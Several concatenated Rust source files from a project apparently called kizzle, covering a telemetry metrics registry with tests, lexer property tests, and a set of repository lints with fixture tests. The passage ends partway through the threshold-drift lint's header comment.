        for (i, g) in gauges.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            let _ = write!(out, "\"{}\":{}", g.name(), g.value());
        }
        out.push_str("},\"histograms\":{");
        for (i, h) in histograms.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            let _ = write!(
                out,
                "\"{}\":{{\"count\":{},\"sum\":{},\"buckets\":[",
                h.name(),
                h.count(),
                h.sum()
            );
            for (j, bucket) in h.bucket_counts().iter().enumerate() {
                if j > 0 {
                    out.push(',');
                }
                let _ = write!(out, "{bucket}");
            }
            out.push_str("]}");
        }
        out.push_str("}}");
        out
    }

    /// Human-readable snapshot of all non-zero metrics, one `name value`
    /// line each, sorted by name.
    #[must_use]
    pub fn render_summary(&self) -> String {
        let (counters, gauges, histograms) = self.snapshot();
        let mut out = String::new();
        for c in counters {
            if c.value() > 0 {
                let _ = writeln!(out, "{} {}", c.name(), c.value());
            }
        }
        for g in gauges {
            if g.value() > 0 {
                let _ = writeln!(out, "{} {}", g.name(), g.value());
            }
        }
        for h in histograms {
            if h.count() > 0 {
                let _ = writeln!(
                    out,
                    "{} count={} mean={}ns",
                    h.name(),
                    h.count(),
                    h.sum() / h.count().max(1)
                );
            }
        }
        out
    }
}

/// A thread-local batching front for a [`Counter`]: bumps accumulate in a
/// plain [`Cell`] and hit the shared sharded atomic once per
/// `batch` events (the "sampled 1-in-N" cost profile the scan path needs),
/// with the remainder flushed on drop — so totals are exact once the
/// owning thread exits (or [`Batched::flush`] is called).
///
/// Not `Sync`; intended to live inside a `thread_local!`.
#[derive(Debug)]
pub struct Batched {
    counter: &'static Counter,
    pending: Cell<u64>,
    batch: u64,
}

impl Batched {
    /// Wrap `counter`, flushing every `batch` events (clamped to ≥ 1).
    #[must_use]
    pub fn new(counter: &'static Counter, batch: u64) -> Self {
        Batched {
            counter,
            pending: Cell::new(0),
            batch: batch.max(1),
        }
    }

    /// Add `n` to the local tally, flushing to the shared counter when the
    /// tally reaches the batch size.
    #[inline]
    pub fn bump(&self, n: u64) {
        let pending = self.pending.get() + n;
        if pending >= self.batch {
            self.counter.add(pending);
            self.pending.set(0);
        } else {
            self.pending.set(pending);
        }
    }

    /// Flush the local tally to the shared counter now.
    pub fn flush(&self) {
        self.counter.add(self.pending.replace(0));
    }
}

impl Drop for Batched {
    fn drop(&mut self) {
        self.flush();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counter_sums_across_threads() {
        let c = counter("test_threads_total");
        c.reset();
        std::thread::scope(|scope| {
            for _ in 0..4 {
                scope.spawn(|| {
                    for _ in 0..1000 {
                        c.incr();
                    }
                });
            }
        });
        assert_eq!(c.value(), 4000);
    }

    #[test]
    fn registry_returns_the_same_handle() {
        let a = counter("test_same_handle_total");
        let b = counter("test_same_handle_total");
        assert!(std::ptr::eq(a, b));
    }

    #[test]
    fn gauge_set_max_is_a_high_water_mark() {
        let g = gauge("test_depth");
        g.reset();
        g.set_max(3);
        g.set_max(9);
        g.set_max(5);
        assert_eq!(g.value(), 9);
    }

    #[test]
    fn histogram_buckets_and_sum() {
        let h = histogram("test_latency_ns");
        h.reset();
        h.observe(500); // ≤ 1µs bucket
        h.observe(5_000_000); // ≤ 10ms bucket
        h.observe(u64::MAX); // +Inf bucket
        assert_eq!(h.count(), 3);
        let buckets = h.bucket_counts();
        assert_eq!(buckets[0], 1);
        assert_eq!(buckets[4], 1);
        assert_eq!(buckets[HISTOGRAM_BOUNDS.len()], 1);
    }

    #[test]
    fn batched_flushes_every_n_and_on_drop() {
        let c = counter("test_batched_total");
        c.reset();
        {
            let batched = Batched::new(c, 10);
            for _ in 0..25 {
                batched.bump(1);
            }
            // Two full batches flushed, 5 pending.
            assert_eq!(c.value(), 20);
        }
        // Drop flushed the remainder.
        assert_eq!(c.value(), 25);
    }

    #[test]
    fn prometheus_and_json_render_all_types() {
        counter("test_render_total").reset();
        counter("test_render_total").add(2);
        gauge("test_render_gauge").set(7);
        histogram("test_render_ns").reset();
        histogram("test_render_ns").observe(1500);
        let prom = registry().render_prometheus();
        assert!(prom.contains("# TYPE test_render_total counter"));
        assert!(prom.contains("test_render_total 2"));
        assert!(prom.contains("test_render_gauge 7"));
        assert!(prom.contains("test_render_ns_bucket{le=\"10000\"} 1"));
        assert!(prom.contains("test_render_ns_count 1"));
        let json = registry().render_json();
        assert!(json.contains("\"test_render_total\":2"));
        assert!(json.contains("\"test_render_gauge\":7"));
        assert!(json.contains("\"test_render_ns\":{\"count\":1"));
    }
}
