//! Property-based tests for the analysis lexer: the scanner is **total**
//! over arbitrary bytes — it never panics, and its spans tile the input
//! exactly — which is what lets the lints run over any file the walker
//! picks up without pre-validating it as UTF-8 or even as Rust.

use kizzle_analyze::lexer::{lex, TokenKind};
use proptest::prelude::*;

/// Spans are contiguous, in-bounds, non-empty, and reconstruct the source.
fn assert_tiles(src: &[u8]) {
    let tokens = lex(src);
    let mut cursor = 0usize;
    for t in &tokens {
        assert_eq!(t.start, cursor, "gap or overlap at byte {cursor}");
        assert!(t.end > t.start, "empty token at byte {}", t.start);
        assert!(t.end <= src.len(), "span past EOF");
        cursor = t.end;
    }
    assert_eq!(cursor, src.len(), "tokens do not cover the tail");
    let rebuilt: Vec<u8> = tokens.iter().flat_map(|t| t.text(src).to_vec()).collect();
    assert_eq!(rebuilt, src);
}

proptest! {
    /// Arbitrary bytes never panic the lexer, and the spans tile the input.
    #[test]
    fn arbitrary_bytes_lex_totally(src in prop::collection::vec(any::<u8>(), 0..512)) {
        assert_tiles(&src);
    }

    /// Byte soup biased toward Rust's trickiest syntax (quotes, hashes,
    /// comment openers, backslashes) still lexes totally.
    #[test]
    fn adversarial_syntax_soup_lexes_totally(
        pieces in prop::collection::vec("r#|br|b'|'a|\"|\\\\|/\\*|\\*/|//|#|'|[a-z]{1,3}|[0-9]{1,3}|\n", 0..60)
    ) {
        let src = pieces.concat();
        assert_tiles(src.as_bytes());
    }

    /// Unterminated strings and comments absorb to EOF instead of panicking.
    #[test]
    fn truncation_at_every_boundary_is_total(cut in 0usize..80) {
        let src = br##"fn f() { let s = r#"raw "x" body"#; /* outer /* inner */ 'a: b'q' } //"##;
        let cut = cut.min(src.len());
        assert_tiles(&src[..cut]);
    }

    /// A lexed string literal's value round-trips: embedding arbitrary
    /// (escape-free) content in quotes yields one Str token with that value.
    #[test]
    fn string_values_round_trip(content in "[a-zA-Z0-9 _.:/-]{0,40}") {
        let src = format!("let x = \"{content}\";");
        let bytes = src.as_bytes();
        let tokens = lex(bytes);
        let strs: Vec<_> = tokens.iter().filter(|t| t.kind == TokenKind::Str).collect();
        prop_assert_eq!(strs.len(), 1);
        prop_assert_eq!(strs[0].str_value(bytes), Some(content));
    }
}
