//! Per-lint fixture tests: each lint runs over a miniature on-disk
//! workspace holding one known-bad and one known-good (or allowlisted)
//! case, and must produce exactly the expected findings with correct
//! `file:line` positions. The `one_injected_violation_per_lint` test at
//! the bottom is the acceptance check from the issue: a workspace with
//! one violation of *each* lint fails with all six diagnostics.

use kizzle_analyze::{run, Severity};
use std::path::{Path, PathBuf};

/// A throwaway on-disk workspace built from `(rel_path, content)` pairs;
/// removed again on drop.
struct Fixture {
    root: PathBuf,
}

impl Fixture {
    fn run(&self, lints: &[&str]) -> kizzle_analyze::Report {
        let filter: Vec<String> = lints.iter().map(|s| s.to_string()).collect();
        run(&self.root, &self.root.join("analysis/allow.toml"), &filter).expect("fixture run")
    }
}

impl Drop for Fixture {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.root);
    }
}

fn write_tree(root: &Path, files: &[(&str, &str)]) {
    std::fs::write(
        root.join("Cargo.toml"),
        "[workspace]\nmembers = [\"crates/*\"]\n",
    )
    .expect("workspace manifest");
    for (rel, content) in files {
        let path = root.join(rel);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(path, content).expect("write fixture file");
    }
}

fn fixture(name: &str, files: &[(&str, &str)]) -> Fixture {
    let root = std::env::temp_dir().join(format!(
        "kizzle-analyze-fixture-{name}-{}",
        std::process::id()
    ));
    let _ = std::fs::remove_dir_all(&root);
    std::fs::create_dir_all(&root).expect("fixture root");
    write_tree(&root, files);
    Fixture { root }
}

const FORBID: &str = "#![forbid(unsafe_code)]\n";

#[test]
fn panic_path_flags_library_code_but_not_tests() {
    let fx = fixture(
        "panic",
        &[(
            "crates/demo/src/lib.rs",
            "#![forbid(unsafe_code)]\npub fn f(x: Option<u32>) -> u32 {\n    x.unwrap()\n}\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn t() {\n        Some(1).unwrap();\n    }\n}\n",
        )],
    );
    let report = fx.run(&["panic-path"]);
    assert_eq!(report.findings.len(), 1, "{}", report.render());
    let f = &report.findings[0];
    assert_eq!(f.severity, Severity::Error);
    assert_eq!(f.path, "crates/demo/src/lib.rs");
    assert_eq!(f.line, 3);
    assert!(f.excerpt.contains("x.unwrap()"));
}

#[test]
fn panic_path_respects_allowlist_and_reports_stale_entries() {
    let fx = fixture(
        "panic-allow",
        &[
            (
                "crates/demo/src/lib.rs",
                "#![forbid(unsafe_code)]\npub fn f() {\n    let _ = std::sync::Mutex::new(1).lock().expect(\"demo lock\");\n}\n",
            ),
            (
                "analysis/allow.toml",
                "[[allow]]\nlint = \"panic-path\"\ncontains = \".lock().expect(\"\nreason = \"poisoning means crash\"\n\n[[allow]]\nlint = \"panic-path\"\npath = \"crates/nonexistent/\"\nreason = \"stale entry\"\n",
            ),
        ],
    );
    let report = fx.run(&["panic-path"]);
    assert!(report.findings.is_empty(), "{}", report.render());
    assert_eq!(report.suppressed, 1);
    assert_eq!(report.unused_allows.len(), 1);
    assert!(report.unused_allows[0].contains("crates/nonexistent/"));
}

#[test]
fn allowlist_without_reason_fails_the_run() {
    let fx = fixture(
        "no-reason",
        &[
            ("crates/demo/src/lib.rs", FORBID),
            ("analysis/allow.toml", "[[allow]]\nlint = \"panic-path\"\n"),
        ],
    );
    let filter: Vec<String> = vec!["panic-path".into()];
    let err = run(&fx.root, &fx.root.join("analysis/allow.toml"), &filter).unwrap_err();
    assert!(err.to_string().contains("reason"), "{err}");
}

#[test]
fn telemetry_drift_is_bidirectional() {
    let fx = fixture(
        "telemetry",
        &[
            (
                "crates/telemetry/schema/telemetry.schema",
                "metric declared_used\nmetric declared_never_emitted\nmetric? optional_absent\n",
            ),
            (
                "crates/demo/src/lib.rs",
                "#![forbid(unsafe_code)]\npub fn f() {\n    telemetry::counter(\"declared_used\").inc();\n    telemetry::counter(\"undeclared_name\").inc();\n}\n",
            ),
        ],
    );
    let report = fx.run(&["telemetry-drift"]);
    let msgs: Vec<&str> = report.findings.iter().map(|f| f.message.as_str()).collect();
    assert_eq!(report.findings.len(), 2, "{}", report.render());
    // Direction 1: code name missing from the schema, flagged at the call.
    let undeclared = report
        .findings
        .iter()
        .find(|f| f.message.contains("undeclared_name"))
        .unwrap_or_else(|| panic!("no undeclared finding in {msgs:?}"));
    assert_eq!(undeclared.path, "crates/demo/src/lib.rs");
    assert_eq!(undeclared.line, 4);
    // Direction 2: required schema name never emitted, flagged at the schema.
    let unemitted = report
        .findings
        .iter()
        .find(|f| f.message.contains("declared_never_emitted"))
        .unwrap_or_else(|| panic!("no unemitted finding in {msgs:?}"));
    assert_eq!(unemitted.path, "crates/telemetry/schema/telemetry.schema");
    assert_eq!(unemitted.line, 2);
    // `metric?` names may be absent without a finding.
    assert!(!report.render().contains("optional_absent"));
}

#[test]
fn section_registry_flags_duplicated_name_literals() {
    let fx = fixture(
        "sections",
        &[
            (
                "crates/snapshot/src/sections.rs",
                "pub const META_SECTION: &str = \"meta\";\npub const STORE_SECTION: &str = \"corpus-store\";\n",
            ),
            (
                "crates/demo/src/lib.rs",
                "#![forbid(unsafe_code)]\npub fn f() -> &'static str {\n    \"corpus-store\"\n}\npub fn ok() -> &'static str {\n    \"unrelated literal\"\n}\n",
            ),
        ],
    );
    let report = fx.run(&["section-registry"]);
    assert_eq!(report.findings.len(), 1, "{}", report.render());
    let f = &report.findings[0];
    assert_eq!(f.path, "crates/demo/src/lib.rs");
    assert_eq!(f.line, 3);
    assert!(f.message.contains("corpus-store"));
    assert!(f.message.contains("STORE_SECTION"));
}

#[test]
fn threshold_drift_is_bidirectional_and_template_aware() {
    let fx = fixture(
        "thresholds",
        &[
            (
                "crates/bench/thresholds.json",
                "{\n  \"demo/gated\": 100,\n  \"demo/orphan_arm\": 200,\n  \"demo/templated_7x9\": 300\n}\n",
            ),
            (
                "crates/bench/benches/demo.rs",
                "fn main() {\n    let mut group = c.benchmark_group(\"demo\");\n    group.bench_function(\"gated\", |b| b.iter(|| 1));\n    group.bench_function(\"ungated_arm\", |b| b.iter(|| 1));\n    group.bench_function(format!(\"templated_{a}x{b}\"), |b| b.iter(|| 1));\n}\n",
            ),
        ],
    );
    let report = fx.run(&["threshold-drift"]);
    // Direction 1: `demo/orphan_arm` has no emitter — Error at the JSON line.
    let orphan = report
        .findings
        .iter()
        .find(|f| f.message.contains("orphan_arm"))
        .unwrap_or_else(|| panic!("no orphan finding: {}", report.render()));
    assert_eq!(orphan.severity, Severity::Error);
    assert_eq!(orphan.path, "crates/bench/thresholds.json");
    assert_eq!(orphan.line, 3);
    // The format!-templated arm is covered, not an orphan.
    assert!(
        !report.render().contains("templated_7x9"),
        "{}",
        report.render()
    );
    // Direction 2: `demo/ungated_arm` has no gate — Warn at the emitter.
    let ungated = report
        .findings
        .iter()
        .find(|f| f.message.contains("demo/ungated_arm"))
        .unwrap_or_else(|| panic!("no ungated finding: {}", report.render()));
    assert_eq!(ungated.severity, Severity::Warn);
    assert_eq!(ungated.path, "crates/bench/benches/demo.rs");
    assert_eq!(ungated.line, 4);
    assert_eq!(report.findings.len(), 2, "{}", report.render());
}

#[test]
fn timing_discipline_flags_raw_instants_outside_telemetry() {
    let fx = fixture(
        "timing",
        &[
            (
                "crates/demo/src/lib.rs",
                "#![forbid(unsafe_code)]\nuse std::time::Instant;\npub fn f() -> Instant {\n    Instant::now()\n}\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn t() {\n        let _ = std::time::Instant::now();\n    }\n}\n",
            ),
            (
                "crates/telemetry/src/lib.rs",
                "#![forbid(unsafe_code)]\npub fn now() -> std::time::Instant {\n    std::time::Instant::now()\n}\n",
            ),
        ],
    );
    let report = fx.run(&["timing-discipline"]);
    assert_eq!(report.findings.len(), 1, "{}", report.render());
    let f = &report.findings[0];
    assert_eq!(f.path, "crates/demo/src/lib.rs");
    assert_eq!(f.line, 4);
}

#[test]
fn unsafe_audit_requires_the_forbid_attribute() {
    let fx = fixture(
        "unsafe",
        &[
            (
                "crates/good/src/lib.rs",
                "#![forbid(unsafe_code)]\npub fn f() {}\n",
            ),
            ("crates/bad/src/lib.rs", "pub fn f() {}\n"),
        ],
    );
    let report = fx.run(&["forbid-unsafe-audit"]);
    assert_eq!(report.findings.len(), 1, "{}", report.render());
    let f = &report.findings[0];
    assert_eq!(f.path, "crates/bad/src/lib.rs");
    assert!(f.message.contains("forbid(unsafe_code)"));
}

/// The issue's acceptance check: inject one violation of each lint into
/// one workspace and every lint fires with a correct location.
#[test]
fn one_injected_violation_per_lint() {
    let fx = fixture(
        "inject-all",
        &[
            (
                "crates/telemetry/schema/telemetry.schema",
                "metric declared_metric\n",
            ),
            (
                "crates/snapshot/src/sections.rs",
                "pub const META_SECTION: &str = \"meta\";\n",
            ),
            ("crates/bench/thresholds.json", "{\n  \"ghost/arm\": 1\n}\n"),
            (
                "crates/demo/src/lib.rs",
                // no forbid(unsafe_code): trips forbid-unsafe-audit
                "use std::time::Instant;\npub fn f(x: Option<u32>) -> u32 {\n    telemetry::counter(\"declared_metric\").inc();\n    telemetry::counter(\"rogue_metric\").inc();\n    let _section = \"meta\";\n    let _t = Instant::now();\n    x.unwrap()\n}\n",
            ),
        ],
    );
    let report = fx.run(&[]);
    let fired: std::collections::BTreeSet<&str> = report.findings.iter().map(|f| f.lint).collect();
    for lint in [
        "panic-path",
        "telemetry-drift",
        "section-registry",
        "threshold-drift",
        "timing-discipline",
        "forbid-unsafe-audit",
    ] {
        assert!(
            fired.contains(lint),
            "{lint} did not fire:\n{}",
            report.render()
        );
    }
    assert!(
        report.failed(false),
        "errors must fail even without deny-all"
    );
    let by = |lint: &str| {
        report
            .findings
            .iter()
            .find(|f| f.lint == lint)
            .map(|f| (f.path.as_str(), f.line))
            .expect(lint)
    };
    assert_eq!(by("panic-path"), ("crates/demo/src/lib.rs", 7));
    assert_eq!(by("section-registry"), ("crates/demo/src/lib.rs", 5));
    assert_eq!(by("timing-discipline"), ("crates/demo/src/lib.rs", 6));
    assert_eq!(by("threshold-drift"), ("crates/bench/thresholds.json", 2));
}
