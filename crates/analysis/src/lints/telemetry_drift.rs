//! `telemetry-drift`: the telemetry name catalog
//! (`crates/telemetry/schema/telemetry.schema`) and the name literals
//! in code must agree, in **both** directions:
//!
//! * every `counter("…")` / `gauge("…")` / `histogram("…")` /
//!   `event("…", …)` / `record_span("…", …)` / `span!("…")` literal in
//!   non-test library code must be declared in the schema (required or
//!   optional) — an undeclared name is a metric the smoke check can
//!   never validate;
//! * every **required** schema name must appear at some such call site —
//!   a declared-but-never-emitted name means the schema is stale and
//!   the smoke check would fail at runtime anyway.
//!
//! `telemetry_check` (PR 8) validates a *run's output*; this lint closes
//! its code-side blind spot: a renamed span drifts out of the schema at
//! review time, not the next time CI happens to exercise that path.
//! Limitation: names built at runtime (`format!`) are invisible here —
//! the repo has none, and the runtime check still covers them.

use crate::lint::{Finding, Severity};
use crate::lints::finding_at;
use crate::workspace::{Role, SourceFile, Workspace};
use std::collections::{BTreeMap, BTreeSet};
use std::fs;

const LINT: &str = "telemetry-drift";
const SCHEMA_PATH: &str = "crates/telemetry/schema/telemetry.schema";

/// The telemetry registration/emission entry points whose first string
/// argument is a catalog name.
const NAME_SINKS: &[&[u8]] = &[b"counter", b"gauge", b"histogram", b"event", b"record_span"];

pub fn run(ws: &Workspace, out: &mut Vec<Finding>) {
    let schema_path = ws.root.join(SCHEMA_PATH);
    let schema_text = match fs::read_to_string(&schema_path) {
        Ok(text) => text,
        Err(err) => {
            out.push(Finding {
                lint: LINT,
                severity: Severity::Error,
                path: SCHEMA_PATH.into(),
                line: 0,
                col: 0,
                message: format!("cannot read telemetry schema: {err}"),
                excerpt: String::new(),
            });
            return;
        }
    };

    // name -> (required, schema line)
    let mut declared: BTreeMap<String, (bool, u32)> = BTreeMap::new();
    for (idx, raw) in schema_text.lines().enumerate() {
        let line = raw.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let mut parts = line.split_whitespace();
        let (Some(kind), Some(name)) = (parts.next(), parts.next()) else {
            continue;
        };
        let required = !kind.ends_with('?');
        match kind.trim_end_matches('?') {
            "metric" | "span" | "event" => {
                declared.insert(name.to_string(), (required, idx as u32 + 1));
            }
            _ => {}
        }
    }

    let mut seen: BTreeSet<String> = BTreeSet::new();
    for file in &ws.files {
        if file.role != Role::Lib || file.vendored {
            continue;
        }
        for (offset, name) in telemetry_names(file) {
            if declared.contains_key(&name) {
                seen.insert(name);
            } else {
                out.push(finding_at(
                    LINT,
                    Severity::Error,
                    file,
                    offset,
                    format!(
                        "telemetry name \"{name}\" is not declared in {SCHEMA_PATH} — \
                         add a `metric`/`span`/`event` line (suffix `?` if the path \
                         is conditional)"
                    ),
                ));
            }
        }
    }

    for (name, (required, line)) in &declared {
        if *required && !seen.contains(name) {
            out.push(Finding {
                lint: LINT,
                severity: Severity::Error,
                path: SCHEMA_PATH.into(),
                line: *line,
                col: 1,
                message: format!(
                    "schema requires \"{name}\" but no library call site emits it — \
                     remove the stale declaration or restore the emitter"
                ),
                excerpt: String::new(),
            });
        }
    }
}

/// Extract `(offset, name)` for every telemetry name literal in
/// non-test code of `file`: `sink("name"…` and `span!("name")`.
fn telemetry_names(file: &SourceFile) -> Vec<(usize, String)> {
    let mut names = Vec::new();
    for i in file.code_token_indices() {
        let tok = file.tokens[i];
        if file.in_test_region(tok.start) {
            continue;
        }
        let text = file.token_text(i);
        let lit = if NAME_SINKS.contains(&text) {
            // `sink` `(` `"name"`
            file.next_code(i)
                .filter(|&p| file.token_text(p) == b"(")
                .and_then(|p| file.next_code(p))
        } else if text == b"span" {
            // `span` `!` `(` `"name"`
            file.next_code(i)
                .filter(|&b| file.token_text(b) == b"!")
                .and_then(|b| file.next_code(b))
                .filter(|&p| file.token_text(p) == b"(")
                .and_then(|p| file.next_code(p))
        } else {
            None
        };
        if let Some(l) = lit {
            if let Some(name) = file.tokens[l].str_value(&file.bytes) {
                names.push((file.tokens[l].start, name));
            }
        }
    }
    names
}
