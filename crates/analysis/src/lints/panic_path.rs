//! `panic-path`: library code must route failures through `KizzleError`
//! (or carry a justified allowlist entry), not panic.
//!
//! Flags, in non-test, non-vendored **library** code:
//!
//! * `.unwrap()` / `.expect(…)` method calls;
//! * `panic!`, `todo!`, `unimplemented!` macro invocations.
//!
//! Deliberately *not* flagged: `unreachable!` (a statically-justified
//! invariant marker, and the message is the justification),
//! `debug_assert!`-family macros (compiled out of release builds), test
//! code in any form, binaries (a CLI's `panic!` is an exit path), and
//! doc comments (doctest code is documentation).

use crate::lint::{Finding, Severity};
use crate::lints::finding_at;
use crate::workspace::{Role, Workspace};

const LINT: &str = "panic-path";

pub fn run(ws: &Workspace, out: &mut Vec<Finding>) {
    for file in &ws.files {
        if file.role != Role::Lib || file.vendored {
            continue;
        }
        for i in file.code_token_indices() {
            let tok = file.tokens[i];
            if file.in_test_region(tok.start) {
                continue;
            }
            let text = file.token_text(i);
            match text {
                b"unwrap" | b"expect" => {
                    let is_method = file
                        .prev_code(i)
                        .is_some_and(|p| file.token_text(p) == b".")
                        && file
                            .next_code(i)
                            .is_some_and(|n| file.token_text(n) == b"(");
                    if is_method {
                        let call = String::from_utf8_lossy(text);
                        out.push(finding_at(
                            LINT,
                            Severity::Error,
                            file,
                            tok.start,
                            format!(
                                "`.{call}()` in a library path — return `KizzleError` \
                                 (or justify the invariant in analysis/allow.toml)"
                            ),
                        ));
                    }
                }
                b"panic" | b"todo" | b"unimplemented" => {
                    let is_macro = file
                        .next_code(i)
                        .is_some_and(|n| file.token_text(n) == b"!");
                    if is_macro {
                        let mac = String::from_utf8_lossy(text);
                        out.push(finding_at(
                            LINT,
                            Severity::Error,
                            file,
                            tok.start,
                            format!(
                                "`{mac}!` in a library path — return `KizzleError` \
                                 (or justify the invariant in analysis/allow.toml)"
                            ),
                        ));
                    }
                }
                _ => {}
            }
        }
    }
}
