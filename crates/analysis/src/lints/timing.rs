//! `timing-discipline`: PR 8 replaced hand-threaded `Instant` timing
//! with telemetry spans; this lint keeps it that way.
//!
//! Flags `Instant::now()` in non-test library code of every product
//! crate except `kizzle-telemetry` itself (the one module that is
//! *supposed* to own raw clock reads — `SpanGuard` wraps them for
//! everyone else). The sanctioned escape hatch for phases a RAII guard
//! cannot span (cross-thread or aggregated measurements feeding
//! `record_span`) is a justified allowlist entry, so every raw clock
//! read in the pipeline is on the record.

use crate::lint::{Finding, Severity};
use crate::lints::finding_at;
use crate::workspace::{Role, Workspace};

const LINT: &str = "timing-discipline";

pub fn run(ws: &Workspace, out: &mut Vec<Finding>) {
    for file in &ws.files {
        if file.role != Role::Lib || file.vendored || file.crate_name == "telemetry" {
            continue;
        }
        for i in file.code_token_indices() {
            let tok = file.tokens[i];
            if file.token_text(i) != b"Instant" || file.in_test_region(tok.start) {
                continue;
            }
            // `Instant` `::` `now` — the two colons lex as separate
            // punctuation tokens.
            let Some(c1) = file.next_code(i) else {
                continue;
            };
            let Some(c2) = file.next_code(c1) else {
                continue;
            };
            let Some(name) = file.next_code(c2) else {
                continue;
            };
            if file.token_text(c1) == b":"
                && file.token_text(c2) == b":"
                && file.token_text(name) == b"now"
            {
                out.push(finding_at(
                    LINT,
                    Severity::Error,
                    file,
                    tok.start,
                    "raw `Instant::now()` in an instrumented library path — use a \
                     telemetry span (`telemetry::span!`), or justify the manual \
                     measurement in analysis/allow.toml"
                        .into(),
                ));
            }
        }
    }
}
