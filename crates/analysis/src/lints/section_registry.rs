//! `section-registry`: snapshot/chain section names and manifest chain
//! keys are load-bearing wire-format strings — a writer and a reader
//! that disagree by one character silently stop exchanging a section.
//! They must therefore come from exactly one place:
//! `kizzle-snapshot`'s `sections` module.
//!
//! The registry is **self-updating**: this lint reads the canonical
//! name set out of `crates/snapshot/src/sections.rs` (every `pub const
//! … : &str = "…";` value), then flags any *other* non-test library or
//! binary code whose string literal exactly equals a registered name.
//! Adding a section constant automatically starts policing its literal.
//!
//! Test code is exempt: tests legitimately spell out literals to pin
//! the on-disk format independently of the constants they verify.

use crate::lint::{Finding, Severity};
use crate::lints::finding_at;
use crate::workspace::{Role, SourceFile, Workspace};
use std::collections::BTreeMap;

const LINT: &str = "section-registry";
const REGISTRY_PATH: &str = "crates/snapshot/src/sections.rs";

pub fn run(ws: &Workspace, out: &mut Vec<Finding>) {
    let Some(registry_file) = ws.files.iter().find(|f| f.rel_path == REGISTRY_PATH) else {
        out.push(Finding {
            lint: LINT,
            severity: Severity::Error,
            path: REGISTRY_PATH.into(),
            line: 0,
            col: 0,
            message: "section registry module is missing — the shared constants in \
                      kizzle-snapshot::sections are the single source of section names"
                .into(),
            excerpt: String::new(),
        });
        return;
    };

    // value -> constant identifier, from `pub const IDENT: &str = "…";`.
    let registry = collect_registry(registry_file);
    if registry.is_empty() {
        out.push(Finding {
            lint: LINT,
            severity: Severity::Error,
            path: REGISTRY_PATH.into(),
            line: 0,
            col: 0,
            message: "section registry declares no `pub const … : &str` names".into(),
            excerpt: String::new(),
        });
        return;
    }

    for file in &ws.files {
        if !matches!(file.role, Role::Lib | Role::Bin)
            || file.vendored
            || file.rel_path == REGISTRY_PATH
        {
            continue;
        }
        for i in file.code_token_indices() {
            let tok = file.tokens[i];
            if file.in_test_region(tok.start) {
                continue;
            }
            let Some(value) = tok.str_value(&file.bytes) else {
                continue;
            };
            if let Some(ident) = registry.get(&value) {
                out.push(finding_at(
                    LINT,
                    Severity::Error,
                    file,
                    tok.start,
                    format!(
                        "section name literal \"{value}\" — use \
                         `kizzle_snapshot::sections::{ident}` so writers and readers \
                         cannot drift apart"
                    ),
                ));
            }
        }
    }
}

fn collect_registry(file: &SourceFile) -> BTreeMap<String, String> {
    let mut registry = BTreeMap::new();
    for i in file.code_token_indices() {
        if file.token_text(i) != b"const" || file.in_test_region(file.tokens[i].start) {
            continue;
        }
        let Some(name_idx) = file.next_code(i) else {
            continue;
        };
        let ident = String::from_utf8_lossy(file.token_text(name_idx)).into_owned();
        // Take the first string literal before the terminating `;`.
        let mut j = name_idx;
        while let Some(n) = file.next_code(j) {
            if file.token_text(n) == b";" {
                break;
            }
            if let Some(value) = file.tokens[n].str_value(&file.bytes) {
                registry.insert(value, ident);
                break;
            }
            j = n;
        }
    }
    registry
}
