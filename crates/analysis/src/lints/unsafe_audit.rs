//! `forbid-unsafe-audit`: every workspace crate's library root must
//! carry `#![forbid(unsafe_code)]` (or a justified allowlist entry).
//!
//! The workspace has no `unsafe` anywhere — including the vendored
//! stand-ins — and `forbid` (unlike `deny`) cannot be overridden
//! further down the tree, so the attribute turns "we don't use unsafe"
//! from a review observation into a compiler guarantee. Vendored crates
//! are audited too: they are workspace members compiled into every
//! product binary.

use crate::lint::{Finding, Severity};
use crate::workspace::{Role, SourceFile, Workspace};
use std::collections::BTreeSet;

const LINT: &str = "forbid-unsafe-audit";

pub fn run(ws: &Workspace, out: &mut Vec<Finding>) {
    let mut seen_crates: BTreeSet<&str> = BTreeSet::new();
    for file in &ws.files {
        if file.role != Role::Lib || !file.rel_path.ends_with("/lib.rs") {
            continue;
        }
        // One lib root per crate: the shortest …/src/lib.rs path wins
        // (there are no nested lib.rs files in this layout).
        if !seen_crates.insert(file.crate_name.as_str()) {
            continue;
        }
        if !has_forbid_unsafe(file) {
            out.push(Finding {
                lint: LINT,
                severity: Severity::Error,
                path: file.rel_path.clone(),
                line: 1,
                col: 1,
                message: format!(
                    "crate `{}` does not forbid unsafe code — add `#![forbid(unsafe_code)]` \
                     to {} (or justify the exception in analysis/allow.toml)",
                    file.crate_name, file.rel_path
                ),
                excerpt: String::new(),
            });
        }
    }
}

/// Token-level check for an inner `#![forbid(unsafe_code)]` attribute:
/// `#` `!` `[` … `forbid` `(` … `unsafe_code` … `]`. Comment mentions
/// do not count.
fn has_forbid_unsafe(file: &SourceFile) -> bool {
    for i in file.code_token_indices() {
        if file.token_text(i) != b"forbid" {
            continue;
        }
        let mut j = i;
        for _ in 0..4 {
            let Some(n) = file.next_code(j) else {
                return false;
            };
            if file.token_text(n) == b"unsafe_code" {
                return true;
            }
            j = n;
        }
    }
    false
}
