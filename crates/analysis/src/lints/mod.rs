//! The repo-specific lints. Each module exposes
//! `run(&Workspace, &mut Vec<Finding>)`; registration lives in
//! [`crate::lint::all_lints`].

pub mod panic_path;
pub mod section_registry;
pub mod telemetry_drift;
pub mod threshold_drift;
pub mod timing;
pub mod unsafe_audit;

use crate::lint::{Finding, Severity};
use crate::workspace::SourceFile;

/// Build a finding anchored at byte `offset` of `file`.
pub(crate) fn finding_at(
    lint: &'static str,
    severity: Severity,
    file: &SourceFile,
    offset: usize,
    message: String,
) -> Finding {
    let (line, col) = file.line_col(offset);
    Finding {
        lint,
        severity,
        path: file.rel_path.clone(),
        line,
        col,
        message,
        excerpt: file.line_text(offset),
    }
}
