//! `threshold-drift`: the CI perf gate (`bench_check` against
//! `crates/bench/thresholds.json`) fails on a *missing* gated bench, but
//! nothing ever checked the other structural invariants statically:
//!
//! * **Orphan arm** (error): a thresholds key with no bench emitter —
